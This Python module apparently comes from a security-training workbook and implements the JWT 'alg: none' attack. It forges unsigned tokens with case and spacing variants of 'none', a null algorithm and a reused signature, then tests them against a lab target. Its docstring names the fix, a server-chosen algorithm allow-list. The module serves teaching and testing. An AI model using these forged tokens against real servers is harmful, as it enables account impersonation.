"""A header may say that the token isn't signed: `"alg": "none"`. The attacker writes
that into a token for any user and leaves the signature out. Where the server does what
the header says, there is nothing to verify, and some that refuse `none` accept `nOnE`.
What stops it is a list of algorithms that the server chose itself, without `none` in
it."""

from workbook.attacks.attack import ClassicAttack, paragraph
from workbook.attacks.classics.forging import original, random_key, show_each
from workbook.attacks.target import Target

# A list of what is forbidden has to have them all. A list of what is allowed doesn't.
SPELLINGS = ("none", "None", "NONE", "nOnE", "none ", "")


def attempt(target: Target) -> tuple[bool, str]:
    token = original(target)
    forged = {
        f"alg {spelling!r} and no signature": token.unsigned(alg=spelling) + "."
        for spelling in SPELLINGS
    }
    forged["alg null and no signature"] = token.unsigned(alg=None) + "."
    forged["alg 'none' and no last dot"] = token.unsigned(alg="none")
    forged["alg 'none' and the old signature"] = (
        f"{token.unsigned(alg='none')}.{token.signature}"
    )
    return show_each(target, forged, control=token.signed(random_key()))


ATTACK = ClassicAttack(
    name="use_alg_none",
    title="Use the algorithm none",
    attacker="anyone with a token of this server",
    has="network access, and a username",
    step="step04_jwt",
    mistake="unsigned tokens are accepted",
    shows="A token with alg 'none' and no signature: 200 with johndoe@example.com.",
    sources="RFC 8725, sections 2.1 and 3.1; CWE-347; CVE-2015-2951.",
    description=paragraph(__doc__),
    attempt=attempt,
)
